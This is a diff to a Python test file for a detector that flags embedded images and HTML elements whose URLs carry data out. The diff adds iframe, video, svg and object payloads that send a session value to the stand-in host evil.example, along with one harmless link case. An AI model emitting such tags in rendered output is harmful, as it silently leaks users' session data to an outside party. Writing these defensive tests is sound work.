@@ -434,6 +434,10 @@ def test_source_label_look_alikes_that_citations_read_as_labels_are_flagged(labe
         "![logo]\n\n[logo]: <https://evil.example/p.png?d=SESSION123>",
         '<img srcset="https://evil.example/p.png?d=SESSION123 1x">',
         '<img src="&#x68;ttps://evil.example/p.png?d=SESSION123">',
+        '<iframe src="https://evil.example/p?d=SESSION123">',
+        '<video poster="https://evil.example/p.png?d=SESSION123">',
+        '<svg><image href="https://evil.example/p.png?d=SESSION123"/></svg>',
+        '<object data="https://evil.example/p?d=SESSION123">',
     ],
 )
 def test_an_image_carrying_data_is_flagged_however_its_url_is_written(image: str) -> None:
@@ -446,6 +450,7 @@ def test_an_image_carrying_data_is_flagged_however_its_url_is_written(image: str
         "See [the docs][d].\n\n[d]: https://example.org/page?x=1",  # a link, by reference
         "![logo][l]\n\n[l]: https://upload.wikimedia.org/logo.png",  # an image without data
         "Tom &amp; Jerry, on [the site](https://example.org/?a=1&amp;b=2).",
+        '<a href="https://example.org/page?x=1">a link waits for a click</a>',
         # a link straight after an image is a link: the image's "![" is not its own
         "![logo](https://upload.wikimedia.org/logo.png) [docs](https://example.org/p?x=1)",
         "![logo](https://upload.wikimedia.org/logo.png)\n\n[docs](https://example.org/p?x=1)",
